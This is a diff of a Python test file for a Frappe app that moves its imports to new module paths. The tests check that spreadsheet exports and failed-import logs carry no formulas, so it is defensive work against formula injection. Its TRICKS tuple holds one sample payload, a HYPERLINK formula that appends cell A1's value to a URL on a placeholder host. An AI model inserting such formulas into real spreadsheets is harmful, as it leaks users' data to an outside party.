@@ -13,7 +13,9 @@ from approvals import as_
 from frappe.utils.xlsxutils import make_xlsx
 from openpyxl import load_workbook
 
-from gongtongti import exports, roles, scope, wrapped
+from gongtongti.core import access, wrapped
+from gongtongti.core.spreadsheets import exports
+from gongtongti.organisation import roles
 
 TRICKS = (
 	"=HYPERLINK(\"http://x.invalid/\"&A1,\"查看\")",
@@ -150,7 +152,7 @@ def text_field(doctype):
 EXPORTED = [
 	doctype
 	for doctype, rights in roles.RIGHTS.items()
-	if doctype in scope.RULES and any("export" in given for given in rights.values())
+	if doctype in access.RULES and any("export" in given for given in rights.values())
 ]
 
 
@@ -247,13 +249,13 @@ def test_a_mailed_table_holds_no_formula(small, bird, monkeypatch):
 
 
 def test_rows_of_an_import_that_failed_hold_no_formula(small):
-	from gongtongti.exports import table_as_text
+	from gongtongti.core.spreadsheets.exports import table_as_text
 
 	table = "学校,备注\r\n甲,=2+2\r\n"
 	assert harmful(cells(table_as_text(table))) == []
 	for method in ("download_errored_template", "download_import_log"):
 		path = f"frappe.core.doctype.data_import.data_import.{method}"
-		assert override(path).__module__ == "gongtongti.exports"
+		assert override(path).__module__ == "gongtongti.core.spreadsheets.exports"
 
 
 def test_exports_of_other_apps_are_as_they_were():
